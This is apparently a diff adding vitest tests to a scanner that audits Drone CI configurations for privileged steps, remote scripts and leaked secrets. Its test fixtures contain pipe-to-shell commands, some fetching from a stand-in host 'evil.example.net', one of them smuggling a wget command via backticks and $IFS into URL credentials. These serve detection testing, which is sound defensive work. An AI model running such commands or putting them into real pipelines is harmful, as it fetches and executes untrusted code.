@@ -1,4 +1,4 @@
-import { mkdirSync, renameSync, rmSync } from 'node:fs';
+import { mkdirSync, readFileSync, renameSync, rmSync, symlinkSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { droneAudit, temporaryFolder } from './support/cli.ts';
@@ -88,6 +88,22 @@ describe('a file whose content is kept elsewhere', () => {
     expect(scan(folder).problems).toContain(`a.yml ${message}`);
   });
 
+  it.each(['/annex/objects/x: 1\n', 'version https://git-lfs.github.com/spec/v1: 1\n'])(
+    'is read where more than a pointer is in it: %j',
+    (first) => {
+      const folder = temporaryFolder();
+      writeFiles(folder, { 'ci/build.yml': first + pipeline });
+      expect(scan(folder).findings).toContain('ci/build.yml privileged-step');
+    },
+  );
+
+  it('is told of on standard input, whatever form it is said to have', () => {
+    for (const form of [[], ['--form', 'env'], ['--form', 'drone']]) {
+      const { stdout, status } = droneAudit(['scan', '-', ...form, '--format', 'unix'], { input: pointer });
+      expect([status, stdout]).toEqual([3, expect.stringContaining('is kept in Git LFS')]);
+    }
+  });
+
   it('is told of where a file names it, and where the command line does', () => {
     const folder = temporaryFolder();
     const compose = 'services:\n  a:\n    image: drone/drone:2\n    env_file: [server.env]\n';
@@ -161,10 +177,101 @@ describe.skipIf(!hasGit)('what is not looked at any more', () => {
       git(folder, ['commit', '-qm', 'submodule']);
     };
     addSubmodule('old');
-    const message = 'old is a submodule that is new in the change, and what is in it was not seen !';
+    const message = 'old is a submodule whose commit comes with the change, and what is in it was not seen !';
     expect(scan(folder, '--diff', 'main')).toMatchObject({ status: 3, fixed: 0, problems: [message] });
     const left = 'old is a submodule and was left out of the comparison';
     expect(scan(folder, '--diff', 'HEAD')).toMatchObject({ status: 0, problems: [left] });
+  });
+});
+
+describe.skipIf(!hasGit)('what cannot be judged any more', () => {
+  const both = [
+    ['--diff', 'main'],
+    ['--baseline', 'baseline.yml'],
+  ] as const;
+
+  /** A repository with a baseline, on whose branch a change was made. */
+  function changed(files: Readonly<Record<string, string>>, change: (folder: string) => void): string {
+    const folder = repositoryOf(files);
+    expect(scan(folder, '--write-baseline', 'baseline.yml').findings).not.toEqual([]);
+    change(folder);
+    commitFiles(folder, {});
+    return folder;
+  }
+
+  it.each([
+    ['a vault', { 'deploy/docker-compose.yml': '$ANSIBLE_VAULT;1.1;AES256\n6162636465666768\n' }],
+    [
+      'values that SOPS encrypted',
+      { 'deploy/docker-compose.yml': 'services: {a: {image: "ENC[AES256_GCM,data:x]"}}\n' },
+    ],
+    ['an archive', { 'deploy/docker-compose.yml.gz': Buffer.from([0x1f, 0x8b, 8, 0, 0xff, 0xfe, 0, 0x80]) }],
+    [
+      'another form',
+      { 'deploy/main.tf': 'resource "docker_container" "a" {\n image = "drone/drone-runner-docker:1"\n}\n' },
+    ],
+  ])('is not fixed in %s', (_, files) => {
+    const folder = changed({ 'deploy/docker-compose.yml': stack, '.drone.yml': pipeline }, (root) => {
+      git(root, ['rm', '-q', 'deploy/docker-compose.yml']);
+      writeFiles(root, files);
+    });
+    for (const options of both) expect(scan(folder, ...options), options[0]).toMatchObject({ findings: [], fixed: 0 });
+  });
+
+  it('is not fixed behind a link, nor in a template that the server renders', () => {
+    const folder = changed({ 'deploy/docker-compose.yml': stack, '.drone.yml': pipeline }, (root) => {
+      rmSync(join(root, 'deploy'), { recursive: true });
+      symlinkSync('/nowhere/deploy', join(root, 'deploy'));
+      writeFiles(root, { '.drone.yml': 'kind: template\nload: a.star\n' });
+    });
+    for (const options of both) expect(scan(folder, ...options), options[0]).toMatchObject({ findings: [], fixed: 0 });
+  });
+
+  it('is not fixed in a submodule, which is named where nothing of it is here', () => {
+    const folder = changed({ 'deploy/docker-compose.yml': stack, '.drone.yml': pipeline }, (root) => {
+      git(root, ['rm', '-rq', 'deploy']);
+      git(root, ['update-index', '--add', '--cacheinfo', `160000,${git(root, ['rev-parse', 'main'])},deploy`]);
+      mkdirSync(join(root, 'deploy'));
+    });
+    const { fixed, problems } = scan(folder, '--baseline', 'baseline.yml');
+    expect(fixed).toBe(0);
+    expect(problems).toEqual(['deploy is a submodule that is not checked out, and what is in it was not seen']);
+  });
+
+  it('is not fixed where its rule is undecided, and stays in a baseline as it was', () => {
+    const compose = `services:
+  drone:
+    image: drone/drone:2
+    ports: ["80:80"]
+    env_file: server.env
+    environment: [DRONE_SERVER_PROTO=http]
+`;
+    const env =
+      'DRONE_GITHUB_CLIENT_ID=a\nDRONE_RPC_SECRET=0123456789abcdef0123456789abcdef\nDRONE_SERVER_HOST=ci.example.com\n';
+    const folder = changed({ 'docker-compose.yml': compose, 'server.env': env }, (root) =>
+      writeFiles(root, { 'server.env': pointer }),
+    );
+    const before = readFileSync(join(folder, 'baseline.yml'), 'utf8');
+    expect(before).toContain('rule: open-registration');
+    for (const options of both) expect(scan(folder, ...options), options[0]).toMatchObject({ fixed: 0 });
+    scan(folder, '--write-baseline', 'baseline.yml');
+    expect(readFileSync(join(folder, 'baseline.yml'), 'utf8')).toBe(before);
+  });
+
+  it('is not fixed beside a submodule at another commit, which makes the comparison incomplete', () => {
+    const folder = repositoryOf({ '.drone.yml': pipeline });
+    const addCommit = (of: string): void => {
+      git(folder, ['update-index', '--add', '--cacheinfo', `160000,${git(folder, ['rev-parse', of])},charts`]);
+      mkdirSync(join(folder, 'charts'), { recursive: true });
+      git(folder, ['commit', '-qm', 'submodule']);
+    };
+    addCommit('main');
+    git(folder, ['branch', '-f', 'main']);
+    addCommit('HEAD');
+    expect(scan(folder, '--diff', 'main')).toMatchObject({
+      status: 3,
+      problems: ['charts is a submodule whose commit comes with the change, and what is in it was not seen !'],
+    });
   });
 });
 
@@ -187,7 +294,7 @@ describe.skipIf(!hasGit)('what a branch brings back', () => {
     expect(told.findings).toContain('runner.yml plain-http-rpc');
     expect(told.problems).toEqual([
       expect.stringMatching(
-        /^runner\.yml has what was elsewhere in main .* is not in main any more: it counts as new$/,
+        /^runner\.yml has, at another place, what was in main .* is not in main any more: it counts as new$/,
       ),
     ]);
   });
@@ -200,6 +307,24 @@ describe.skipIf(!hasGit)('what a branch brings back', () => {
 
   it('is known where it was: git joins the file with what the target made of it', () => {
     expect(scan(staleBranch('services: {}\n'), '--diff', 'main')).toMatchObject({ findings: [], fixed: 0 });
+  });
+
+  it('is new at another place of its file, with which git does not join it', () => {
+    const step = '  - {name: bad, image: alpine, privileged: true}\n';
+    const steps = ['a', 'b', 'c'].map((name) => `  - {name: ${name}, image: alpine, commands: [make]}\n`);
+    const of = (...lines: readonly string[]): string =>
+      `${pipeline.slice(0, pipeline.indexOf('  - name'))}${lines.join('')}`;
+    const [a = '', b = '', c = ''] = steps;
+    const folder = repositoryOf({ '.drone.yml': of(a, step, b, c) });
+    git(folder, ['checkout', '-q', 'main']);
+    commitFiles(folder, { '.drone.yml': of(a, b, c) }, 1_700_000_100);
+    git(folder, ['checkout', '-q', 'change']);
+    commitFiles(folder, { '.drone.yml': of(a, step, b, c, a.replace('name: a', 'name: d')) }, 1_700_000_200);
+    expect(scan(folder, '--diff', 'main').findings).toEqual(['.drone.yml unpinned-image']);
+    commitFiles(folder, { '.drone.yml': of(a, b, c, step) }, 1_700_000_300);
+    expect(scan(folder, '--diff', 'main').findings).toContain('.drone.yml privileged-step');
+    git(folder, ['merge', '-q', '--no-edit', 'main']);
+    expect(readFileSync(join(folder, '.drone.yml'), 'utf8')).toContain('privileged');
   });
 
   it('is not hidden by what the config of the target does not say any more', () => {
@@ -223,6 +348,19 @@ describe.skipIf(!hasGit)('a pipeline that Drone runs by itself', () => {
       ['--baseline', 'baseline.yml'],
     ])
       expect(scan(folder, ...options).findings).toContain('.drone.yml privileged-step');
+  });
+
+  it('has nothing that is known from a folder that is gone with its only file', () => {
+    const folder = repositoryOf({
+      'testdata/bad/.drone.yml': pipeline,
+      '.drone.yml': pipeline.replace('privileged: true', ''),
+    });
+    scan(folder, '--write-baseline', 'baseline.yml');
+    git(folder, ['mv', '-f', 'testdata/bad/.drone.yml', '.drone.yml']);
+    rmSync(join(folder, 'testdata'), { recursive: true, force: true });
+    expect(scan(folder, '--baseline', 'baseline.yml').findings).toContain('.drone.yml privileged-step');
+    rmSync(join(folder, '.git'), { recursive: true });
+    expect(scan(folder, '--baseline', 'baseline.yml').findings).toContain('.drone.yml privileged-step');
   });
 
   it('is known from itself where the folder of the repository has another name', () => {
@@ -283,4 +421,101 @@ volumes: [{host: {path: "/var/run/docker.sock"}, name: socket}]
     commitFiles(folder, { '.drone.yml': after.replaceAll('/var/run/docker.sock', '/') });
     expect(scan(folder, '--diff', 'main').findings).not.toEqual([]);
   });
+});
+
+describe.skipIf(!hasGit)('a place that is hidden as a secret', () => {
+  const running = (command: string): string => pipeline.replace('[make]', JSON.stringify([command]));
+
+  it.each([
+    ['another host before the last @', 'curl -s https://user:abc@evil.example.net/@a.example.com/run.sh | sh'],
+    ['a command', 'curl -s https://user:`wget$IFS-qO-$IFS-evil.example.net|sh`@a.example.com/run.sh | sh'],
+  ])('is new with %s in it', (_, command) => {
+    const folder = repositoryOf({
+      '.drone.yml': running('curl -s https://user:zyxwVUTSrqpoNMLKjihg9876@a.example.com/run.sh | sh'),
+    });
+    commitFiles(folder, { '.drone.yml': running(command) });
+    expect(scan(folder, '--diff', 'main').findings).toContain('.drone.yml remote-script');
+    commitFiles(folder, {
+      '.drone.yml': running('curl -s https://user:q8Zr5tWvX2nLpK9sDfGh1JmB@a.example.com/run.sh | sh'),
+    });
+    expect(scan(folder, '--diff', 'main').findings).toEqual([]);
+  });
+
+  it('is new where it is the webhook of others', () => {
+    const hook = (owner: string, key: string): string =>
+      running(`curl -d a https://hooks.slack.com/services/${owner}/${key}`);
+    const folder = repositoryOf({ '.drone.yml': hook('T0OWNOWNO/B0OWNOWNO', 'zzzzYYYYxxxxWWWWvvvv9876') });
+    commitFiles(folder, { '.drone.yml': hook('T0OWNOWNO/B0OWNOWNO', 'aaaaYYYYxxxxWWWWvvvv1234') });
+    expect(scan(folder, '--diff', 'main').findings).toEqual([]);
+    commitFiles(folder, { '.drone.yml': hook('T0FOREIGN/B0FOREIGN', 'aaaaYYYYxxxxWWWWvvvv1234') });
+    expect(scan(folder, '--diff', 'main').findings).toContain('.drone.yml hardcoded-secret');
+  });
+});
+
+describe.skipIf(!hasGit)('one of several places', () => {
+  it('is new where it became worse, though another is as bad', () => {
+    const of = (value: string): string => `kind: pipeline
+type: docker
+name: default
+trigger: {event: [push, pull_request]}
+steps:
+  - {name: a, image: plugins/foo, settings: {a: {from_secret: t}}}
+  - {name: b, image: plugins/foo, when: {event: [push]}, settings: {a: ${value}}}
+`;
+    const folder = repositoryOf({ '.drone.yml': of('b') });
+    scan(folder, '--write-baseline', 'baseline.yml');
+    commitFiles(folder, { '.drone.yml': of('{from_secret: other}') });
+    for (const options of [
+      ['--diff', 'main'],
+      ['--baseline', 'baseline.yml'],
+    ])
+      expect(scan(folder, ...options).findings).toEqual(['.drone.yml unpinned-image']);
+  });
+
+  it('is known where an alias joins it with others, or takes it apart', () => {
+    const steps = (first: string, second: string): string => `kind: pipeline
+type: docker
+name: default
+steps:
+  - {name: a, image: alpine:3, commands: ${first}}
+  - {name: b, image: alpine:3, commands: ${second}}
+`;
+    const commands = '["curl http://x.example/a | sh", make]';
+    const [twice, shared] = [steps(commands, commands), steps(`&c ${commands}`, '*c')];
+    for (const [before, after] of [
+      [twice, shared],
+      [shared, twice],
+    ] as const) {
+      const folder = repositoryOf({ '.drone.yml': before });
+      commitFiles(folder, { '.drone.yml': after });
+      expect(scan(folder, '--diff', 'main')).toMatchObject({ findings: [], fixed: 0 });
+    }
+  });
+
+  it('is told apart by its namespace, and not by its order', () => {
+    const runner = (namespace: string, isPrivileged: boolean): string => `apiVersion: apps/v1
+kind: Deployment
+metadata: {name: r, namespace: ${namespace}}
+spec:
+  template:
+    spec:
+      containers: [{name: r, image: 'drone/drone-runner-docker:1.8.3', securityContext: {privileged: ${isPrivileged}}}]
+---
+`;
+    const folder = repositoryOf({ 'k.yaml': runner('dev', true) + runner('prod', false) });
+    commitFiles(folder, { 'k.yaml': runner('prod', false) + runner('dev', true) });
+    expect(scan(folder, '--diff', 'main').findings).toEqual([]);
+    commitFiles(folder, { 'k.yaml': runner('prod', true) + runner('dev', false) });
+    expect(scan(folder, '--diff', 'main').findings).toEqual(['k.yaml privileged-container']);
+  });
+});
+
+it.each([
+  ['env', 'words\n'],
+  ['kubernetes', 'foo: bar\n'],
+  ['docker-env', '{}\n'],
+  ['systemd', 'words\n'],
+])('a text of which nothing is understood in the form that is named is not clean: %s', (form, input) => {
+  const { status, stdout } = droneAudit(['scan', '-', '--form', form, '--format', 'unix'], { input });
+  expect([status, stdout]).toEqual([3, expect.stringContaining('nothing of Drone was understood')]);
 });
